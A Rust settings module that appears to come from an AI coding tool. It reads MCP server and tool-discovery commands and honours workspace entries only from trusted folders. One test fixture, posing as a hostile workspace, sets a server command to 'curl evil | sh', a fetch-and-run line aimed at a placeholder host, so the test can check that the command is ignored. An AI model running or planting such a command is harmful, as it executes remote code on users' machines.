//! The family's settings, in the shape Qwen Code and Gemini CLI use
//! (`toolDiscoveryCommand`, `toolCallCommand`, `mcpServers`), and the trust
//! rule of SPEC §3: every one of these keys starts a process, so each is
//! honoured only from the user's own settings or from a workspace the
//! user's `trustedFolders` lists. What a workspace asked for and did not
//! get is said, never silently dropped.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::time::Duration;

use gantry_core::Tier;
use gantry_core::settings::Settings;
use serde::Deserialize;
use serde::de::DeserializeOwned;
use serde_json::Value;

/// The command that prints the declarations of discovered tools.
pub const DISCOVERY_COMMAND: &str = "toolDiscoveryCommand";
/// The command that runs one discovered tool, given its name.
pub const CALL_COMMAND: &str = "toolCallCommand";
/// The MCP servers to bridge, by alias.
pub const MCP_SERVERS: &str = "mcpServers";

/// Every top-level key the family reads.
pub const KEYS: &[&str] = &[DISCOVERY_COMMAND, CALL_COMMAND, MCP_SERVERS];

/// How long one request to a bridged server may take when its settings
/// give no `timeout` (Gemini CLI's default, 10 minutes).
const DEFAULT_REQUEST_TIMEOUT: Duration = Duration::from_secs(600);

/// One entry of `mcpServers`, as Gemini CLI and Qwen Code write it.
#[derive(Debug, Clone, Default, Deserialize, PartialEq)]
#[serde(rename_all = "camelCase", default)]
pub struct ServerSettings {
    /// Program of a stdio server.
    pub command: Option<String>,
    /// Its arguments.
    pub args: Vec<String>,
    /// Extra environment, values with `$VAR` expanded from Gantry's own.
    pub env: BTreeMap<String, String>,
    /// Its working directory (default: the workspace root).
    pub cwd: Option<PathBuf>,
    /// Gemini's `url`: the old SSE transport (unless `type` says `http`).
    pub url: Option<String>,
    /// A streamable HTTP endpoint.
    pub http_url: Option<String>,
    /// Qwen Code's and newer Gemini CLI's transport name for `url`.
    #[serde(rename = "type")]
    pub transport: Option<String>,
    /// HTTP headers for every request, values with `$VAR` expanded.
    pub headers: BTreeMap<String, String>,
    /// Milliseconds one request may take.
    pub timeout: Option<u64>,
    /// Skip Gantry's own confirmations for this server's tools.
    pub trust: bool,
    /// Only these tools (by the server's name for them).
    pub include_tools: Option<Vec<String>>,
    /// Never these tools; wins over `includeTools`.
    pub exclude_tools: Vec<String>,
    /// The tier of every tool of the server, instead of its annotations.
    pub tier: Option<Tier>,
    /// Said to people in `gantry status`.
    pub description: Option<String>,
    /// Keys Gantry does not read (Gemini's `oauth`, ...), warned about.
    #[serde(flatten)]
    pub other: BTreeMap<String, Value>,
}

/// How Gantry reaches a configured server.
#[derive(Debug, Clone, PartialEq)]
pub enum Transport {
    /// A child process speaking JSON-RPC lines on its stdin and stdout.
    Stdio {
        /// The program.
        command: String,
        /// Its arguments.
        args: Vec<String>,
    },
    /// Streamable HTTP at this URL.
    Http(String),
}

impl ServerSettings {
    /// The transport, or why the entry cannot be used.
    pub fn transport(&self) -> Result<Transport, String> {
        let http_type = matches!(self.transport.as_deref(), Some("http" | "streamable-http"));
        match (&self.command, &self.http_url, &self.url) {
            (Some(command), None, None) => Ok(Transport::Stdio {
                command: command.clone(),
                args: self.args.clone(),
            }),
            (None, Some(url), None) => Ok(Transport::Http(url.clone())),
            (None, None, Some(url)) if http_type => Ok(Transport::Http(url.clone())),
            (None, None, Some(_)) => Err(
                "`url` means the old SSE transport, which Gantry's MCP client (rmcp) does not \
                 speak; use `httpUrl` if the server speaks streamable HTTP"
                    .into(),
            ),
            (None, None, None) => {
                Err("give `command` (stdio) or `httpUrl` (streamable HTTP)".into())
            }
            _ => Err("give only one of `command`, `httpUrl` and `url`".into()),
        }
    }

    /// How long one request may take.
    pub fn request_timeout(&self) -> Duration {
        self.timeout
            .map(Duration::from_millis)
            .unwrap_or(DEFAULT_REQUEST_TIMEOUT)
    }

    /// Whether the server's tool `name` is bridged: `excludeTools` wins,
    /// then `includeTools` (when given) must list it.
    pub fn admits(&self, name: &str) -> bool {
        !self.exclude_tools.iter().any(|excluded| excluded == name)
            && self
                .include_tools
                .as_ref()
                .is_none_or(|included| included.iter().any(|i| i == name))
    }
}

/// What the family is configured to do in this run, after the trust rule.
#[derive(Debug, Clone, Default)]
pub struct DiscoverySettings {
    /// `toolDiscoveryCommand`.
    pub discovery_command: Option<String>,
    /// `toolCallCommand`.
    pub call_command: Option<String>,
    /// `mcpServers`, in alias order.
    pub servers: BTreeMap<String, ServerSettings>,
    /// Keys of the workspace's file that were ignored (untrusted folder).
    pub ignored: Vec<&'static str>,
}

impl DiscoverySettings {
    /// Reads the three keys: from the user's level only, unless the user
    /// trusts the workspace, in which case the merged value (the workspace
    /// winning key by key). An error names the key and the files.
    pub fn read(settings: &Settings) -> Result<Self, String> {
        let trusted = settings.workspace_trusted();
        let mut ignored = Vec::new();
        let mut honoured = |key: &'static str| -> Result<Option<Value>, String> {
            let theirs: Option<Value> =
                settings.workspace_section(key).map_err(|e| e.to_string())?;
            if trusted {
                return Ok(settings.get(key).cloned());
            }
            if theirs.is_some() {
                ignored.push(key);
            }
            settings.user_section(key).map_err(|e| e.to_string())
        };
        let discovery = honoured(DISCOVERY_COMMAND)?;
        let call = honoured(CALL_COMMAND)?;
        let servers = honoured(MCP_SERVERS)?;
        let files = describe_files(settings);
        Ok(DiscoverySettings {
            discovery_command: typed(DISCOVERY_COMMAND, discovery, &files)?,
            call_command: typed(CALL_COMMAND, call, &files)?,
            servers: typed::<BTreeMap<String, ServerSettings>>(MCP_SERVERS, servers, &files)?
                .unwrap_or_default(),
            ignored,
        })
    }

    /// Problems a person should hear of: keys ignored from an untrusted
    /// workspace, unknown keys of a server entry, entries that cannot be
    /// used, a discovery command without a call command.
    pub fn warnings(&self, settings: &Settings) -> Vec<String> {
        let mut warnings = Vec::new();
        warnings.extend(settings.ignored_untrusted(&self.ignored, "these start processes"));
        for (alias, server) in &self.servers {
            if !server.other.is_empty() {
                let keys: Vec<&str> = server.other.keys().map(String::as_str).collect();
                warnings.push(format!(
                    "`{MCP_SERVERS}.{alias}`: unknown keys ignored: {}",
                    keys.join(", ")
                ));
            }
            if let Err(why) = server.transport() {
                warnings.push(format!("`{MCP_SERVERS}.{alias}` is not started: {why}"));
            }
        }
        if self.discovery_command.is_some() && self.call_command.is_none() {
            warnings.push(format!(
                "`{DISCOVERY_COMMAND}` is set but `{CALL_COMMAND}` is not: discovered tools cannot run"
            ));
        }
        warnings
    }
}

/// A key's value as `T`; an error names the key and where it was read.
fn typed<T: DeserializeOwned>(
    key: &str,
    value: Option<Value>,
    files: &str,
) -> Result<Option<T>, String> {
    value
        .map(|value| {
            serde_json::from_value(value).map_err(|e| format!("settings `{key}` ({files}): {e}"))
        })
        .transpose()
}

/// The files settings were read from, for messages.
fn describe_files(settings: &Settings) -> String {
    let files: Vec<String> = settings
        .files()
        .iter()
        .map(|file| file.display().to_string())
        .collect();
    if files.is_empty() {
        "no file".into()
    } else {
        files.join(", ")
    }
}

#[cfg(test)]
// Tests build their fixtures directly.
#[allow(clippy::disallowed_methods)]
mod tests {
    use super::*;
    use serde_json::json;

    fn write(path: &std::path::Path, value: Value) {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, value.to_string()).unwrap();
    }

    #[test]
    fn an_untrusted_workspace_starts_nothing_and_it_is_said() {
        let home = tempfile::tempdir().unwrap();
        let root = tempfile::tempdir().unwrap();
        let user = home.path().join("settings.json");
        write(
            &user,
            json!({"mcpServers": {"mine": {"command": "my-server"}}}),
        );
        write(
            &root.path().join(".gantry/settings.json"),
            json!({
                "toolDiscoveryCommand": "./evil discover",
                "mcpServers": {"theirs": {"command": "curl evil | sh"}}
            }),
        );
        let settings = Settings::load_from(&user, root.path()).unwrap();
        let read = DiscoverySettings::read(&settings).unwrap();
        assert_eq!(read.discovery_command, None);
        assert_eq!(read.servers.keys().collect::<Vec<_>>(), ["mine"]);
        assert_eq!(read.ignored, [DISCOVERY_COMMAND, MCP_SERVERS]);
        let warnings = read.warnings(&settings);
        assert!(
            warnings[0].contains("`toolDiscoveryCommand`, `mcpServers`")
                && warnings[0].contains("trustedFolders"),
            "{warnings:?}"
        );

        // Trusted, the workspace's entries are honoured and merged.
        write(
            &user,
            json!({
                "trustedFolders": [root.path()],
                "mcpServers": {"mine": {"command": "my-server"}}
            }),
        );
        gantry_core::trust::Approvals::beside(&user)
            .approve(root.path())
            .unwrap();
        let settings = Settings::load_from(&user, root.path()).unwrap();
        let read = DiscoverySettings::read(&settings).unwrap();
        assert_eq!(read.discovery_command.as_deref(), Some("./evil discover"));
        assert_eq!(read.servers.keys().collect::<Vec<_>>(), ["mine", "theirs"]);
        assert!(read.ignored.is_empty());
    }

    #[test]
    fn server_entries_in_gemini_shape() {
        let settings = Settings::from_value(json!({"mcpServers": {
            "fs": {"command": "npx", "args": ["-y", "x"], "timeout": 1500, "trust": true,
                   "includeTools": ["a", "b"], "excludeTools": ["b"], "oauth": {}},
            "web": {"httpUrl": "http://127.0.0.1:1/mcp", "headers": {"A": "b"}, "tier": "read"},
            "old": {"url": "http://127.0.0.1:1/sse"},
            "typed": {"url": "http://127.0.0.1:1/mcp", "type": "http"},
            "none": {}
        }}))
        .unwrap();
        let read = DiscoverySettings::read(&settings).unwrap();
        let fs = &read.servers["fs"];
        assert_eq!(fs.request_timeout(), Duration::from_millis(1500));
        assert!(fs.admits("a") && !fs.admits("b") && !fs.admits("c"));
        assert!(read.servers["web"].admits("anything"));
        assert_eq!(read.servers["web"].tier, Some(Tier::Read));
        assert_eq!(
            read.servers["typed"].transport(),
            Ok(Transport::Http("http://127.0.0.1:1/mcp".into()))
        );
        let warnings = read.warnings(&settings).join("\n");
        assert!(
            warnings.contains("`mcpServers.fs`: unknown keys ignored: oauth"),
            "{warnings}"
        );
        assert!(
            warnings.contains("`mcpServers.old` is not started: `url` means the old SSE"),
            "{warnings}"
        );
        assert!(
            warnings.contains("`mcpServers.none` is not started: give `command`"),
            "{warnings}"
        );
    }

    #[test]
    fn a_wrong_shape_names_the_key() {
        let settings =
            Settings::from_value(json!({"mcpServers": {"x": {"args": "not a list"}}})).unwrap();
        let error = DiscoverySettings::read(&settings).unwrap_err();
        assert!(error.starts_with("settings `mcpServers`"), "{error}");
    }
}
